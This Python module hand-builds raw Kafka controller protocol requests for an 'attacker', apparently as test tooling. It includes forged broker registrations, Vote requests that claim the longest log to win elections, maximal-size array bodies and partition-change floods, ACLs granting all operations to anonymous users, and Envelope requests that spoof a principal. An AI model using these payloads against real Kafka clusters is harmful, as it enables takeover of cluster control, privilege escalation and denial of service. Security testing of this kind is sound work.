"""Requests as bytes, made by hand: the attacker shares no code with the controller that it attacks."""

from __future__ import annotations

import struct

FETCH, CREATE_TOPICS, DELETE_TOPICS, API_VERSIONS = 1, 19, 20, 18
DESCRIBE_CONFIGS, ALTER_CONFIGS, CREATE_PARTITIONS, CREATE_ACLS = 32, 33, 37, 30
ELECT_LEADERS, INCREMENTAL_ALTER_CONFIGS = 43, 44
ALTER_PARTITION_REASSIGNMENTS, LIST_PARTITION_REASSIGNMENTS, ALTER_CLIENT_QUOTAS = 45, 46, 49
VOTE, BEGIN_QUORUM_EPOCH, END_QUORUM_EPOCH, DESCRIBE_QUORUM = 52, 53, 54, 55
ALTER_PARTITION, ENVELOPE, FETCH_SNAPSHOT = 56, 58, 59
DELETE_ACLS, ALTER_USER_SCRAM_CREDENTIALS, UPDATE_FEATURES, ASSIGN_REPLICAS_TO_DIRS = 31, 51, 57, 73
BROKER_REGISTRATION, BROKER_HEARTBEAT = 62, 63

METADATA_TOPIC = b"__cluster_metadata"


def uvarint(number: int) -> bytes:
    encoded = bytearray()
    while number > 127:
        encoded.append(number & 127 | 128)
        number >>= 7
    encoded.append(number)
    return bytes(encoded)


def compact(text: bytes) -> bytes:
    """A compact string or compact bytes."""
    return uvarint(len(text) + 1) + text


def compact_array(entries: list[bytes]) -> bytes:
    return uvarint(len(entries) + 1) + b"".join(entries)


def string(text: bytes) -> bytes:
    return struct.pack(">h", len(text)) + text


def frame(payload: bytes) -> bytes:
    return struct.pack(">i", len(payload)) + payload


def request(
    api_key: int,
    version: int,
    body: bytes,
    *,
    flexible: bool = True,
    correlation_id: int = 1,
    tags: bytes = b"\0",
) -> bytes:
    """The payload of a request: its header, of version 2 if flexible and 1 if not, then the body."""
    header = struct.pack(">hhi", api_key, version, correlation_id) + string(b"a-client")
    return header + (tags if flexible else b"") + body


def densest(prefix: bytes, unit: bytes, suffix: bytes, size_bytes: int, *, flexible: bool = True) -> bytes:
    """A body whose array consists of as many `unit` as fit into `size_bytes`."""
    count = size_bytes // len(unit)
    length = uvarint(count + 1) if flexible else struct.pack(">i", count)
    return prefix + length + unit * count + suffix


def metadata_fetch(epoch: int, offset: int, *, max_wait_ms: int = 0, forgotten: bytes = b"\1") -> bytes:
    """Fetch, version 12, of the metadata log by an observer that has everything below `offset`."""
    max_bytes = 1 << 30
    partition = struct.pack(">iiqiqi", 0, epoch, offset, epoch if offset else 0, -1, max_bytes) + b"\0"
    topic = compact(METADATA_TOPIC) + compact_array([partition]) + b"\0"
    start = struct.pack(">iiiibii", -1, max_wait_ms, 1, max_bytes, 0, 0, -1)
    return request(FETCH, 12, start + compact_array([topic]) + forgotten + b"\1" + b"\0")


def high_watermark(answer: bytes) -> int:
    """Of a response to `metadata_fetch`; 0 if there is none in it."""
    place = 4 + 1 + 4 + 2 + 4 + 1 + 1 + len(METADATA_TOPIC) + 1 + 4 + 2
    if len(answer) < place + 8:
        return 0
    return int(struct.unpack_from(">q", answer, place)[0])


def leader_epoch(answer: bytes, leader_id: int) -> int:
    """Of a response to `metadata_fetch`, where it follows the leader's id; 1 if it is not there."""
    found = answer.find(struct.pack(">i", leader_id))
    return int(struct.unpack_from(">i", answer, found + 4)[0]) if found >= 0 else 1


def registration(
    cluster_id: str,
    broker_id: int,
    incarnation_id: bytes,
    *,
    listeners: list[bytes] | None = None,
    log_dirs: bytes | None = None,
) -> bytes:
    """BrokerRegistration, version 4. `log_dirs` is any number of uuids."""
    if listeners is None:
        listeners = [listener(b"PLAINTEXT", b"localhost")]
    if log_dirs is None:
        log_dirs = incarnation_id
    features = [
        compact(name) + struct.pack(">hh", 0 if name != b"metadata.version" else 1, highest) + b"\0"
        for name, highest in (
            (b"metadata.version", 40),
            (b"kraft.version", 1),
            (b"transaction.version", 2),
            (b"group.version", 1),
            (b"eligible.leader.replicas.version", 1),
            (b"share.version", 1),
            (b"streams.version", 1),
        )
    ]
    body = struct.pack(">i", broker_id) + compact(cluster_id.encode()) + incarnation_id
    body += compact_array(listeners) + compact_array(features) + b"\0" + b"\0"
    body += uvarint(len(log_dirs) // 16 + 1) + log_dirs + struct.pack(">q", -1) + b"\0"
    return request(BROKER_REGISTRATION, 4, body)


def listener(name: bytes, host: bytes) -> bytes:
    return compact(name) + compact(host) + struct.pack(">Hh", 9092, 0) + b"\0"


def heartbeat(broker_id: int, broker_epoch: int, correlation_id: int) -> bytes:
    body = struct.pack(">iqq??", broker_id, broker_epoch, 1 << 40, False, False) + b"\0"
    return request(BROKER_HEARTBEAT, 1, body, correlation_id=correlation_id)


def isr_changes(broker_id: int, broker_epoch: int, count: int) -> bytes:
    """AlterPartition, version 3, of `count` partitions with an ISR of three: 54 bytes each."""
    isr = compact_array([struct.pack(">iq", member, -1) + b"\0" for member in (1, 2, 3)])
    partitions = [
        struct.pack(">ii", index, 1) + isr + struct.pack(">bi", 0, 1) + b"\0" for index in range(count)
    ]
    topic = b"\7" * 16 + compact_array(partitions) + b"\0"
    body = struct.pack(">iq", broker_id, broker_epoch) + compact_array([topic]) + b"\0"
    return request(ALTER_PARTITION, 3, body)


SET, APPEND = 0, 2
BROKER = 4


def config_change(
    changes: list[tuple[bytes, int, bytes]], *, resource: bytes = b"", validate_only: bool = False
) -> bytes:
    """IncrementalAlterConfigs, version 1: (name, operation, value) of brokers' defaults or of one broker."""
    configs = [
        compact(name) + bytes([operation]) + compact(value) + b"\0" for name, operation, value in changes
    ]
    entry = bytes([BROKER]) + compact(resource) + compact_array(configs) + b"\0"
    return request(INCREMENTAL_ALTER_CONFIGS, 1, compact_array([entry]) + bytes([validate_only]) + b"\0")


CLUSTER, TOPIC = 4, 2
ALL, ALTER = 2, 7
LITERAL, ALLOW = 3, 3


def acl(
    resource_type: int, resource: bytes, host: bytes, operation: int, principal: bytes = b"User:ANONYMOUS"
) -> bytes:
    texts = compact(principal) + compact(host)
    start = bytes([resource_type]) + compact(resource) + bytes([LITERAL])
    return start + texts + bytes([operation, ALLOW]) + b"\0"


def new_acls(acls: list[bytes]) -> bytes:
    """CreateAcls, version 3."""
    return request(CREATE_ACLS, 3, compact_array(acls) + b"\0")


def vote(candidate_id: int, epoch: int) -> bytes:
    """Vote, version 0, for a candidate whose log is ahead of any other."""
    partition = struct.pack(">iiiiq", 0, epoch, candidate_id, epoch - 1, 1 << 40) + b"\0"
    topic = compact(METADATA_TOPIC) + compact_array([partition]) + b"\0"
    return request(VOTE, 0, b"\0" + compact_array([topic]) + b"\0")


def envelope(inner: bytes, principal: bytes | None = None, address: bytes = b"\x7f\0\0\1") -> bytes:
    if principal is None:
        # DefaultPrincipalData version 0: type, name, whether it was authenticated by a token.
        principal = struct.pack(">h", 0) + compact(b"User") + compact(b"someone") + b"\0" + b"\0"
    return request(ENVELOPE, 0, compact(inner) + compact(principal) + compact(address) + b"\0")
